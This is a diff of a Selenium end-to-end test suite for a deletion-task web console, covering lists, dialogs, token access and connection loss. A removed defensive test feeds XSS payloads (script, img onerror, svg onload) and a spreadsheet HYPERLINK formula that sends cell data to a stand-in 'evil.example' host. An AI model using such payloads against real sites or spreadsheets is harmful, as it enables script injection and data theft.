@@ -1,90 +1,36 @@
-"""Stories of the console. Each has a name that says what holds, and its own tasks."""
+"""Stories of the console's lists and of a task. Each has its own tasks."""
 
-import concurrent.futures
-import csv
 import json
 import os
 import pathlib
 import re
-import signal
 import time
-import urllib.error
-import urllib.parse
-import urllib.request
 
-from processes import free_port
-from proxy import API, Proxy
+from processes import build, free_port
+from proxy import Proxy, without
+from selenium.webdriver.common.action_chains import ActionChains
 from selenium.webdriver.common.by import By
 from selenium.webdriver.common.keys import Keys
+from stories import API, Stories
 
 WIDE, NARROW = (1440, 900), (360, 740)
-EXAMPLE = {"embedding_model_id": "embed-456", "task_id": "delete-xyz", "object_ids": ["obj-1", "obj-2"]}
 # `slow` is an index that takes its time.
 STORES = '{"slow": "s3vectors://demo/embed-456?objects_per_second=1", "*": "s3vectors://demo/{embedding_model_id}"}'
+# What the page shows without the right token.
+REFUSED = "Open the address that the program printed"
 # Every rule of axe, those of best practice among them.
 AXE = """
     const {violations} = await axe.run(document, {resultTypes: ["violations"]});
     return violations.map(({id, nodes}) => id + ": " + nodes.slice(0, 3).map(({html, failureSummary}) => html.slice(0, 200) + " " + failureSummary).join(" | "));
 """
-# Kept from before the page's own scripts: what its policy has stopped.
-WATCH = "window.violations = []; addEventListener('securitypolicyviolation', e => violations.push(e.violatedDirective + ' ' + e.blockedURI));"
 
 
-class Story:
-    """A browser, the address of a runner, and what the stories do with them."""
-
-    def __init__(self, browser, report, processes, screenshots):
-        self.browser = browser
-        self.expect = report and report.expect
-        self.processes = processes
-        self.screenshots = screenshots
-        self.api = None
-
-    # ------------------------------------------------------------ the service
-
-    def start(self, *flags, port=0):
-        """Starts a runner, and returns its address."""
-        name = f"runner-{len(self.processes.started)}"
-        command = ["cargo", "run", "--locked", "--quiet", "--", "--port", str(port), *flags]
-        said = self.processes.start(name, command, lambda text: "Ready" in text)
-        self.api = re.search(r"^API (\S+)", said, re.M)[1]
-        return self.api
-
-    def stop(self):
-        """Stops the runner that was started last."""
-        process = self.processes.started.pop()
-        process.send_signal(signal.SIGINT)
-        process.wait(20)
-
-    def call(self, method, name, body=None, **query):
-        data = None if body is None else json.dumps(body).encode()
-        address = f"{self.api}{API}{name}?{urllib.parse.urlencode(query)}"
-        request = urllib.request.Request(address, data, {"Content-Type": "application/json"}, method=method)
-        with urllib.request.urlopen(request, timeout=20) as response:
-            return json.load(response)
-
-    def create(self, **fields):
-        return self.call("POST", "run", {**EXAMPLE, **fields})
-
-    def create_all(self, task_ids):
-        with concurrent.futures.ThreadPoolExecutor(8) as pool:
-            list(pool.map(lambda task_id: self.create(task_id=task_id), task_ids))
+class Console(Stories):
+    """The lists and tasks of one runner, and of others where a story needs one."""
 
     def prepare(self):
-        """Starts two services: one without a worker, for a thousand tasks, and one for most stories. What takes long begins here."""
-        self.crowd = self.start("--no-worker")
-        crowd = Story(self.browser, None, self.processes, self.screenshots)
-        crowd.api = self.crowd
-        pool = concurrent.futures.ThreadPoolExecutor(1)
-        self.created = pool.submit(crowd.create_all, [f"task-{number:04}" for number in range(1000)])
-        self.start()
-        ids = [f"obj-{number}" for number in range(901, 20_901)]
-        self.create(task_id="large", object_ids=ids, reason="Article 17, ticket 4711")
-
-    def ended(self, task_id):
-        """Waits until a task has ended."""
-        ends = ("done", "failed", "canceled")
-        return self.browser.wait(f"{task_id} ends", lambda: (task := self.call("GET", "info", task_id=task_id))["status"] in ends and task)
+        self.browser.size(*WIDE)
+        self.start("--vector-stores", STORES)
 
     # ------------------------------------------------------------ the page
 
@@ -130,13 +76,6 @@ class Story:
                 return
         self.expect(f"the tabulator reaches {what}", False, passed)
 
-    def size(self, width, height):
-        self.browser.driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": False})
-
-    def scheme(self, name):
-        feature = {"name": "prefers-color-scheme", "value": name}
-        self.browser.driver.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": [feature]})
-
     def hide(self, is_hidden):
         """Tells the page that nobody sees it, or that somebody does."""
         self.browser.run("Object.defineProperty(document, 'hidden', {value: given[0], configurable: true}); document.dispatchEvent(new Event('visibilitychange'))", is_hidden)
@@ -146,31 +85,31 @@ class Story:
         if self.browser.run("return typeof axe") == "undefined":
             self.browser.driver.execute_script(pathlib.Path(os.environ["AXE"]).read_text())
         for width, height in (WIDE, NARROW):
-            self.size(width, height)
+            self.browser.size(width, height)
             fits = self.browser.run("return document.documentElement.scrollWidth <= innerWidth")
             self.expect(f"{what} at {width} px: nothing to scroll to the side", fits)
             for scheme in ("light", "dark"):
-                self.scheme(scheme)
+                self.browser.scheme(scheme)
                 findings = self.browser.run(AXE)
                 self.expect(f"{what} at {width} px, {scheme}: no finding of axe", findings == [], findings)
                 self.browser.driver.save_screenshot(str(self.screenshots / f"{what.replace(' ', '-')}-{width}-{scheme}.png"))
-        self.size(*WIDE)
-        self.scheme("light")
-
-    def has_kept_its_policy(self):
-        """Nothing was stopped by the page's policy, and its scripts have logged no error."""
-        violations = self.browser.run("return window.violations")
-        self.expect("the policy of the page stopped nothing", violations == [], violations)
-        errors = [line for line in self.browser.log() if "Failed to load resource" not in line and "net::ERR" not in line]
-        self.expect("the page logged no error", errors == [], errors)
+        self.browser.size(*WIDE)
+        self.browser.scheme("light")
 
     # ------------------------------------------------------------ the stories
 
+    def what_the_policy_stops_is_noticed(self):
+        """Without this, what holds after each story could not fail."""
+        self.open()
+        self.browser.log()
+        self.browser.run("document.body.setAttribute('style', 'color: red')")
+        self.expect("the page and the log tell of it", self.browser.run("return violations.length") == 1 and self.browser.log() != [])
+        self.open()
+
     def the_example_from_pending_to_done_while_the_server_goes_and_comes_back(self):
-        shared = self.api
-        data = self.processes.folder / "data"
+        data = self.processes.folder / "tasks-of-the-example"
         port = free_port()
-        self.start("--data", str(data), "--no-worker", port=port)
+        self.start("--data", data, "--no-worker", name="example", port=port)
         self.open()
         self.shows("#list-end", "No task yet")
         self.inspect("an empty list")
@@ -178,11 +117,11 @@ class Story:
         self.create()
         self.browser.wait("the new task is shown", lambda: self.row("delete-xyz"))
         self.expect("a new task is pending", "pending" in self.row("delete-xyz"), self.row("delete-xyz"))
-        self.stop()
+        self.processes.stop("example")
         self.shows("#connection", "Cannot reach the server since")
         self.expect("its row stays while the server is gone", "pending" in (self.row("delete-xyz") or ""))
         self.inspect("the server gone")
-        self.start("--data", str(data), port=port)
+        self.start("--data", data, name="example", port=port)
         self.browser.wait("the banner goes", lambda: not self.text("#connection"))
         self.browser.one("#rows a").click()
         self.shows("#task-title", "delete-xyz")
@@ -196,92 +135,62 @@ class Story:
         self.browser.wait("its row is done", lambda: "done" in (self.row("delete-xyz") or ""))
         self.expect("the focus is on the task it was on", self.focus() == "delete-xyz", self.focus())
         self.expect("the page was never loaded again", self.browser.run("return window.isSamePage") is True)
-        self.stop()
-        self.api = shared
+        self.processes.stop("example")
 
-    def twenty_thousand_objects_page_by_page(self):
-        self.ended("large")
-        failed = [failure["object_id"] for failure in self.outcomes("large", "failed")]
-        self.open("?task=large")
-        self.shows("#range", f"1 to 1,000 of {len(failed):,}")
-        self.expect("the failures are shown first", self.objects() == failed[:1000], self.objects()[:3])
-        self.expect("why is shown", "ticket 4711" in self.text("#fields"), self.text("#fields"))
-        for page in (1, 2):
-            self.browser.one("#next").click()
-            self.shows("#range", f"{page},001 to {page + 1},000 of")
-        self.expect("the third page has the third thousand", self.objects() == failed[2000:3000], self.objects()[:3])
-        self.browser.one("#previous").click()
-        self.shows("#range", "1,001 to 2,000 of")
-        self.expect("the page before has the second thousand", self.objects() == failed[1000:2000], self.objects()[:3])
-        self.inspect("a task")
-        origin = {"origin": self.api, "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]}
-        self.browser.driver.execute_cdp_cmd("Browser.grantPermissions", origin)
-        self.browser.one("#copy").click()
-        self.shows("#objects-note", "Copied 1,000 ids")
-        copied = self.browser.run("return navigator.clipboard.readText()")
-        self.expect("the ids of the page are copied", copied.split() == failed[1000:2000], copied[:100])
-        rows = list(csv.reader(self.download("csv", "large-failed.csv").splitlines()))
-        self.expect("the CSV has every failure", [row[0] for row in rows] == ["object_id", *failed], rows[:3])
-        lines = [json.loads(line) for line in self.download("jsonl", "large-failed.jsonl").splitlines()]
-        self.expect("the JSON Lines have every failure", [line["object_id"] for line in lines] == failed, lines[:3])
+    def a_row_goes_when_its_task_does(self):
+        for name in ("stays", "expires"):
+            self.create(task_id=name)
+            self.ended(name)
         with Proxy(self.api) as proxy:
-            self.open("?task=large", proxy.url)
-            self.shows("#range", "1 to 1,000 of")
-            proxy.refusals = [(503, {"Retry-After": "1"})]
-            lines = self.download("jsonl", "large-failed.jsonl").splitlines()
-            self.expect("a busy server delays a download, and does not end it", len(lines) == len(failed) and not proxy.refusals, len(lines))
-        self.open("?task=large")
-        self.browser.one('#outcomes [data-outcome="deleted"]').click()
-        self.shows("#range", f" of {20_000 - len(failed):,}")
-        self.expect("the outcome is in the address", "outcome=deleted" in self.browser.driver.current_url, self.browser.driver.current_url)
+            self.open(origin=proxy.url)
+            self.browser.wait("both are shown", lambda: self.row("stays") and self.row("expires"))
+            self.browser.run("[...document.querySelectorAll('#rows a')].find(link => link.textContent === 'expires').focus()")
+            # As of a list that lags, and of a task that has expired.
+            proxy.change = without("stays", "expires")
+            proxy.gone = {"expires"}
+            self.browser.wait("the row of the expired task goes", lambda: not self.row("expires"))
+            self.expect("the focus goes to the heading", self.focus() == "list-title", self.focus()[:80])
+            self.expect("a row that only the list lacks stays", self.row("stays"))
+            self.open("?task=expires", proxy.url)
+            self.shows("#task-problem", "Task not found.")
 
-    def outcomes(self, task_id, outcome):
-        cursor, items = None, []
-        while True:
-            page = self.call("GET", "info", task_id=task_id, outcome=outcome, **({"cursor": cursor} if cursor else {}))
-            items += page["items"]
-            cursor = page["items_cursor"]
-            if not cursor:
-                return items
+    def the_ages_are_those_of_the_server(self):
+        self.create(task_id="young")
+        for hours in (-1, 1):
+            wrong = f"{{ const now = Date.now; Date.now = () => now() + {hours} * 3600_000; }}"
+            script = self.browser.devtools("Page.addScriptToEvaluateOnNewDocument", source=wrong)
+            self.open()
+            self.browser.devtools("Page.removeScriptToEvaluateOnNewDocument", **script)
+            self.browser.wait("its row is shown", lambda: self.row("young"))
+            self.browser.wait(lambda: f"a new task is some seconds old by a clock that is wrong by {hours} h: {self.row('young')}", lambda: re.search("\t[1-9][0-9]* s\t", self.row("young")))
 
-    def objects(self):
-        return self.browser.run("return [...document.querySelectorAll('#items .id')].map(cell => cell.textContent)")
+    def a_dialog_stays_while_its_call_is_under_way(self):
+        self.create(task_id="patience", object_ids=["obj-7"])
+        self.ended("patience")
+        with Proxy(self.api) as proxy:
+            self.open(origin=proxy.url)
+            self.browser.wait("its row is shown", lambda: self.row("patience"))
+            self.browser.one("#rows").find_element(By.LINK_TEXT, "patience").click()
+            self.shows("#summary", "1 deleted of 1")
+            self.browser.one("#restart").click()
+            self.shows("#dialog-effect", "Every object is deleted (1). Nothing is tried again")
+            release = proxy.hold("/restart")
+            self.browser.one("#dialog-confirm").click()
+            self.browser.wait("nobody can take it back", lambda: not self.browser.one("#dialog-leave").is_enabled())
+            self.press(Keys.ESCAPE)
+            self.expect("Escape does not either", self.seen("#dialog"))
+            release()
+            self.browser.wait("the dialog is closed", lambda: not self.seen("#dialog"))
+            self.shows("#fields", "Attempt2")
+            self.browser.wait("it can be restarted again", lambda: self.seen("#restart") and "done" in self.text("#summary"))
 
-    def download(self, button, name):
-        """Downloads a file, and returns its content with its line ends."""
-        self.browser.one(f"#{button}").click()
-        file = self.processes.folder / name
-        self.browser.wait(f"{name} is there", file.exists)
-        self.shows("#objects-note", "Downloaded")
-        content = file.read_bytes().decode()
-        file.unlink()
-        return content
-
-    def no_text_of_a_caller_is_html(self):
-        task_id = "<img/src=x/onerror=window.isHurt=1>&lt;b&gt;"
-        objects = ["<script>window.isHurt=1</script>", '=HYPERLINK("http://evil.example/?"&A1,"x")', 'a "quoted", one', "-1+1"]
-        self.create(task_id=task_id, embedding_model_id="<b>nowhere</b>", object_ids=objects, reason="<svg/onload=window.isHurt=1>")
-        self.ended(task_id)
-        self.open()
-        self.browser.wait("its row is shown", lambda: self.row(task_id))
-        self.expect("the list shows the model as text", "<b>nowhere</b>" in self.row(task_id), self.row(task_id))
-        self.browser.one("#rows").find_element(By.LINK_TEXT, task_id).click()
-        self.shows("#range", "of 4")
-        self.expect("the title is the id as text", self.text("#task-title") == task_id, self.text("#task-title"))
-        self.expect("the reason is text", "<svg/onload" in self.text("#fields"), self.text("#fields"))
-        self.expect("the object ids are text", self.objects() == objects, self.objects())
-        made = self.browser.run("return document.querySelectorAll('main img, main b, main script, main a[href*=evil]').length")
-        self.expect("nothing of it is an element", made == 0, made)
-        self.expect("nothing of it has run", not self.browser.run("return window.isHurt"))
-        name = re.sub("[^A-Za-z0-9._-]+", "_", task_id)
-        text = self.download("csv", f"{name}-failed.csv")
-        rows = list(csv.reader(text.splitlines()))
-        guarded = [objects[0], "'" + objects[1], objects[2], "'" + objects[3]]
-        self.expect("a spreadsheet computes none of the ids", [row[0] for row in rows[1:]] == guarded, rows)
-        self.expect("the CSV has the line ends of RFC 4180", text.count("\r\n") == 5 == text.count("\n"), text)
-        self.expect("the page says so", "2 of them begin with" in self.text("#objects-note"), self.text("#objects-note"))
-        lines = self.download("jsonl", f"{name}-failed.jsonl").splitlines()
-        self.expect("the JSON Lines have the ids unchanged", [json.loads(line)["object_id"] for line in lines] == objects, lines)
+            release = proxy.hold("/info")
+            self.browser.one("#restart").click()
+            self.browser.driver.back()
+            release()
+            calls = len(proxy.calls)
+            self.browser.wait("the list is read", lambda: any("/list" in path for _, path in proxy.calls[calls:]))
+            self.expect("no dialog opens for a task that the person has left", not self.seen("#dialog"))
 
     def a_walk_by_keyboard_to_a_canceled_task(self):
         self.create(task_id="walk", embedding_model_id="slow", object_ids=[f"obj-{number}" for number in range(100, 200)])
@@ -296,7 +205,7 @@ class Story:
         self.expect("the focus is on the task's heading", self.focus() == "task-title", self.focus())
         self.tab_to("cancel")
         self.press(Keys.ENTER)
-        self.shows("#dialog-effect", "100 of its objects remain")
+        self.shows("#dialog-effect", "100 objects will not be deleted")
         self.expect("the focus is in the dialog", self.focus() == "dialog-leave", self.focus())
         self.inspect("a dialog")
         self.press(Keys.ESCAPE)
@@ -320,7 +229,7 @@ class Story:
         self.browser.wait("the dialog is open", lambda: self.seen("#dialog"))
         self.expect("it says what is tried again", self.text("#dialog-effect") == "Tries the 1 object again that was not deleted. 2 stay deleted.", self.text("#dialog-effect"))
         self.browser.one("[value=all]").click()
-        self.expect("it says what `all` does", "Tries all 3 objects again, the 2 deleted before among them" in self.text("#dialog-effect"), self.text("#dialog-effect"))
+        self.expect("it says what `all` does", self.text("#dialog-effect") == "Tries every object again (3). 2 were deleted before; what was inserted under their ids since then is deleted too.", self.text("#dialog-effect"))
         self.call("PUT", "restart", task_id="again")
         self.ended("again")
         self.browser.one("#dialog-confirm").click()
@@ -346,6 +255,10 @@ class Story:
         self.browser.wait("Back takes the model away", lambda: self.row("nowhere-2"))
         self.browser.driver.back()
         self.browser.wait("Back takes the status away", lambda: self.row("here-1"))
+        self.browser.run("document.querySelector('[name=since]').focus()")
+        ActionChains(self.browser.driver).send_keys("1", Keys.ENTER).perform()
+        self.expect("half a time filters nothing", self.browser.driver.current_url.endswith("/"), self.browser.driver.current_url)
+        self.expect("the browser says why", self.browser.run("return document.querySelector('[name=since]').validity.badInput"))
         self.open("?status=failed&since=2026-01-01T00:00:00Z&until=2026-01-02T00:00:00Z")
         self.shows("#list-end", "No task has this status, this model and this time.")
         self.open("?since=yesterday")
@@ -410,17 +323,68 @@ class Story:
     def lists(self, proxy):
         return [path for _, path in proxy.calls if path.startswith(f"{API}list")]
 
-    def a_token_and_a_server_that_asks_to_wait(self):
+    def dtask_console_lets_in_who_has_its_token_and_passes_calls_on(self):
+        data = self.processes.folder / "tasks-behind-dtask"
+        port = free_port()
+        self.start("--data", data, "--vector-stores", STORES, name="behind-dtask", port=port)
+        self.create(task_id="again")
+        self.ended("again")
+        self.create(task_id="stops", embedding_model_id="slow", object_ids=[f"obj-{number}" for number in range(400, 500)])
+        own_port = free_port()
+        address = self.start_dtask(own_port)
+        origin = address.partition("/#")[0]
+        self.open(origin=origin)
+        self.shows("#connection", REFUSED)
+        self.expect("without the token the page shows no task", not self.seen("#rows tr"))
+        self.browser.run("window.isSamePage = true")
+        self.browser.open(address)
+        self.browser.wait("the token lets the page in", lambda: self.row("again"))
+        self.expect("the token leaves the address", self.browser.driver.current_url == f"{origin}/", self.browser.driver.current_url)
+        self.open("?task=again", origin)
+        self.shows("#summary", "done")
+        self.browser.one("#restart").click()
+        self.shows("#dialog-effect", "1 object")
+        self.browser.one("#dialog-confirm").click()
+        self.shows("#fields", "Attempt2")
+        self.expect("the service has restarted it", self.call("GET", "info", task_id="again")["attempt"] == 2)
+        self.open("?task=stops", origin)
+        self.browser.wait("it can be canceled", lambda: self.seen("#cancel"))
+        self.browser.one("#cancel").click()
+        self.shows("#dialog-effect", "Stops the task")
+        self.browser.one("#dialog-confirm").click()
+        self.shows("#summary", "canceled")
+        self.expect("the service has canceled it", self.call("GET", "info", task_id="stops")["status"] == "canceled")
+        self.open(origin=origin)
+        self.browser.wait("its row is canceled", lambda: "canceled" in (self.row("stops") or ""))
+        self.browser.run("window.isSamePage = true")
+        self.processes.stop("behind-dtask")
+        self.shows("#connection", f"Cannot reach {self.api}/")
+        away = self.text("#connection")
+        self.expect("the page names the status and ends its sentences once", "(status 502, since" in away and ".." not in away and ". (" not in away, away)
+        self.expect("the rows stay", self.row("again") and self.row("stops"))
+        self.start("--data", data, "--vector-stores", STORES, name="behind-dtask", port=port)
+        self.browser.wait("the service is back", lambda: not self.text("#connection"))
+        self.processes.stop("dtask")
+        self.shows("#connection", "Cannot reach the server since")
+        address = self.start_dtask(own_port)
+        self.shows("#connection", REFUSED)
+        self.expect("the rows stay when another token is wanted", self.row("again"))
+        self.browser.open(address)
+        self.browser.wait("the new token lets the same page in", lambda: not self.text("#connection"))
+        self.expect("the page was never loaded again", self.browser.run("return window.isSamePage") is True)
+        self.processes.stop("dtask")
+        self.processes.stop("behind-dtask")
+
+    def start_dtask(self, port):
+        """Starts `dtask console` before the runner, and returns the address that it prints."""
+        command = [build() / "dtask", "--api", self.api, "console", "--port", str(port)]
+        return re.search(r"^Console (\S+)", self.processes.start("dtask", command, lambda text: "Console" in text), re.M)[1]
+
+    def the_page_waits_as_it_is_told_and_while_nobody_sees_it(self):
         with Proxy(self.api) as proxy:
-            proxy.token = "secret"
             self.open(origin=proxy.url)
-            self.shows("#connection", "This console has another token")
-            self.browser.open(f"{proxy.url}/#token=secret")
-            self.browser.wait("the token lets the page in", lambda: self.seen("#rows tr"))
-            self.expect("the token is not in the address", "secret" not in self.browser.driver.current_url, self.browser.driver.current_url)
-            self.open(origin=proxy.url)
-            self.browser.wait("the page has kept the token", lambda: self.seen("#rows tr"))
-            proxy.refusals = [(429, {"Retry-After": "4"})]
+            self.browser.wait("the tasks are shown", lambda: self.seen("#rows tr"))
+            proxy.refuse((429, {"Retry-After": "4"}))
             self.shows("#connection", "Too many calls at once; try again (status 429")
             refused = proxy.calls[-1][0]
             self.browser.wait("the page tries again", lambda: not self.text("#connection"))
@@ -435,130 +399,43 @@ class Story:
             self.hide(False)
             self.browser.wait("it reads again at once", lambda: len(proxy.calls) > calls)
 
-    def a_thousand_tasks(self):
-        self.api = self.crowd
-        self.browser.wait("all are created", self.created.done)
-        with Proxy(self.api) as proxy:
-            self.size(1440, 12_000)
-            self.open(origin=proxy.url)
-            self.browser.wait("a screen that is higher than a page is filled", lambda: self.browser.run("return document.querySelectorAll('#rows tr').length") > 200)
-            self.size(*WIDE)
-            self.browser.run("window.longest = 0; new PerformanceObserver(list => list.getEntries().forEach(({duration}) => longest = Math.max(longest, duration))).observe({type: 'longtask', buffered: true})")
-            self.browser.wait("all are shown", lambda: self.browser.run("scrollTo(0, document.body.scrollHeight)") or "1,000 tasks. There are no others." in self.text("#list-end"))
-            shown = self.browser.run("return [...document.querySelectorAll('#rows a')].map(link => link.textContent)")
-            self.expect("each is shown once", sorted(shown) == [f"task-{number:04}" for number in range(1000)], len(shown))
-            script = """
-                const link = document.querySelectorAll("#rows a")[given[0]];
-                link.scrollIntoView({block: "center"});
-                link.focus();
-                getSelection().selectAllChildren(link);
-                window.changes = [];
-                new MutationObserver(all => changes.push(...all)).observe(document.querySelector("#rows"), {childList: true});
-                return [link.getBoundingClientRect().top, link.textContent];
-            """
-            # Tasks of the last seconds are read again, since the list may lag.
-            self.browser.wait("the list has settled", lambda: not any("cursor=" in path for path in self.lists(proxy)[-2:]))
-            top, name = self.browser.run(script, 700)
-            calls = len(proxy.calls)
-            self.create(task_id="newest")
-            self.browser.wait("a new task is shown", lambda: self.row("newest"))
-            self.browser.wait("the list is read twice", lambda: len([path for _, path in proxy.calls[calls:] if "list?" in path]) >= 2)
-            reads = [path for _, path in proxy.calls[calls:]]
-            self.expect("the pages further down are not read again", not [path for path in reads if "cursor=" in path], reads)
-            self.expect("only what can be seen is read by itself", len({path for path in reads if "info?" in path}) < 40, len(reads))
-            first = self.browser.run("return document.querySelector('#rows a').textContent")
-            self.expect("a new task is one new row, at the top", first == "newest" and self.browser.run("return changes.length") == 1, first)
-            state = self.browser.run("return [document.activeElement.textContent, String(getSelection())]")
-            self.expect("the focus and the selection stay", state == [name, name], state)
-            moved = self.browser.run("return document.activeElement.getBoundingClientRect().top") - top
-            self.expect("what somebody reads does not move", abs(moved) < 1, moved)
-            self.hide(True)
-            self.create_all([f"late-{number:03}" for number in range(150)])
-            proxy.change = without_the_oldest_of_them
-            self.hide(False)
-            self.browser.wait("the newest tasks are shown", lambda: self.row("late-149"))
-            proxy.change = lambda path, body: body
-            self.browser.wait("those that the list had late are shown", lambda: self.row("late-000"))
-            shown = self.browser.run("return [...document.querySelectorAll('#rows a')].map(link => link.textContent)")
-            listed = [task["id"] for task in self.call("GET", "list", limit=200)["tasks"]]
-            self.expect("more new tasks than a page has leave no gap", shown[:200] == listed and len(shown) == 1151, len(shown))
-            print(f"        longest task of the page's thread: {self.browser.run('return longest'):.0f} ms")
-            self.browser.driver.save_screenshot(str(self.screenshots / "a-thousand-tasks.png"))
-
     def the_list_with_tasks(self):
         self.create(task_id="a-long-id-" + "x" * 200, embedding_model_id="m" * 128)
         self.open()
         self.browser.one("summary").click()
         self.inspect("a list")
 
+    def picture(self, file):
+        """Makes the picture of the README: a list with a task of each kind."""
+        self.start("--vector-stores", STORES.replace("slow", "embed-500").replace("objects_per_second=1", "objects_per_second=60"))
+        self.browser.size(1200, 470)
+        for task_id, fields in {
+            "reindex-embed-457": {"embedding_model_id": "embed-457", "object_ids": [f"obj-{number}" for number in range(1, 41)]},
+            "delete-xyz": {},
+            "user-4711": {"object_ids": [f"obj-{number}" for number in range(3, 260)]},
+        }.items():
+            self.create(task_id=task_id, **fields)
+            self.ended(task_id)
+        self.create(task_id="tenant-18", embedding_model_id="embed-500", object_ids=[f"obj-{number}" for number in range(260, 1_300)])
+        self.create(task_id="import-rollback", object_ids=[f"obj-{number}" for number in range(2_000, 9_000)])
+        self.call("PUT", "cancel", task_id="import-rollback")
+        file.parent.mkdir(parents=True, exist_ok=True)
+        self.open()
+        self.browser.wait("the tasks are at work", lambda: re.search("processing.*deleted", self.row("tenant-18") or "", re.S))
+        self.browser.driver.save_screenshot(str(file))
 
-def without_the_oldest_of_them(path, body):
-    """A list that does not yet have some of the new tasks."""
-    page = json.loads(body)
-    if path.startswith(f"{API}list"):
-        page["tasks"] = [task for task in page["tasks"] if task["id"] not in {f"late-{number:03}" for number in range(50)}]
-    return json.dumps(page).encode()
-
-
-STORIES = [
-    Story.the_example_from_pending_to_done_while_the_server_goes_and_comes_back,
-    Story.no_text_of_a_caller_is_html,
-    Story.a_walk_by_keyboard_to_a_canceled_task,
-    Story.a_restart_says_what_it_will_do_and_what_has_changed_meanwhile,
-    Story.filters_are_in_the_address,
-    Story.of_two_states_of_a_task_the_newer_one_stays,
-    Story.what_lags_never_replaces_what_is_newer,
-    Story.a_token_and_a_server_that_asks_to_wait,
-    Story.twenty_thousand_objects_page_by_page,
-    Story.the_list_with_tasks,
-    Story.a_thousand_tasks,
-]
-
-
-def test(browser, report, processes, screenshots, name):
-    """Runs the stories whose names contain `name`, on one service after another."""
-    os.environ["VECTOR_STORES"] = STORES
-    browser.driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": WATCH})
-    story = Story(browser, report, processes, screenshots)
-    story.prepare()
-    story.size(*WIDE)
-    story.open()
-    browser.log()
-    # Without this, the two checks of each story could not fail.
-    browser.run("document.body.setAttribute('style', 'color: red')")
-    report.expect("what the policy stops is noticed", browser.run("return violations.length") == 1 and browser.log() != [])
-    for tell in STORIES:
-        title = tell.__name__.replace("_", " ")
-        if name not in title:
-            continue
-        print(f"\n{title}", flush=True)
-        began = time.monotonic()
-        try:
-            tell(story)
-        except Exception as error:  # the next stories can still tell something
-            browser.driver.save_screenshot(str(screenshots / f"failed-{tell.__name__}.png"))
-            report.expect(title, False, f"{type(error).__name__}: {str(error).partition('Stacktrace')[0].strip()}")
-        story.has_kept_its_policy()
-        print(f"        {time.monotonic() - began:.1f} s", flush=True)
-
-
-def picture(browser, processes, file):
-    """Makes the picture of the README: a list with a task of each kind."""
-    os.environ["VECTOR_STORES"] = STORES.replace("slow", "embed-500").replace("objects_per_second=1", "objects_per_second=60")
-    story = Story(browser, None, processes, file.parent)
-    story.start()
-    story.size(1200, 470)
-    for task_id, fields in {
-        "reindex-embed-457": {"embedding_model_id": "embed-457", "object_ids": [f"obj-{number}" for number in range(1, 41)]},
-        "delete-xyz": {},
-        "user-4711": {"object_ids": [f"obj-{number}" for number in range(3, 260)]},
-    }.items():
-        story.create(task_id=task_id, **fields)
-        story.ended(task_id)
-    story.create(task_id="tenant-18", embedding_model_id="embed-500", object_ids=[f"obj-{number}" for number in range(260, 1_300)])
-    story.create(task_id="import-rollback", object_ids=[f"obj-{number}" for number in range(2_000, 9_000)])
-    story.call("PUT", "cancel", task_id="import-rollback")
-    file.parent.mkdir(parents=True, exist_ok=True)
-    story.open()
-    browser.wait("the tasks are at work", lambda: re.search("processing.*deleted", story.row("tenant-18") or "", re.S))
-    browser.driver.save_screenshot(str(file))
+    STORIES = (
+        what_the_policy_stops_is_noticed,
+        the_example_from_pending_to_done_while_the_server_goes_and_comes_back,
+        a_walk_by_keyboard_to_a_canceled_task,
+        a_restart_says_what_it_will_do_and_what_has_changed_meanwhile,
+        filters_are_in_the_address,
+        of_two_states_of_a_task_the_newer_one_stays,
+        what_lags_never_replaces_what_is_newer,
+        dtask_console_lets_in_who_has_its_token_and_passes_calls_on,
+        the_page_waits_as_it_is_told_and_while_nobody_sees_it,
+        a_dialog_stays_while_its_call_is_under_way,
+        a_row_goes_when_its_task_does,
+        the_ages_are_those_of_the_server,
+        the_list_with_tasks,
+    )
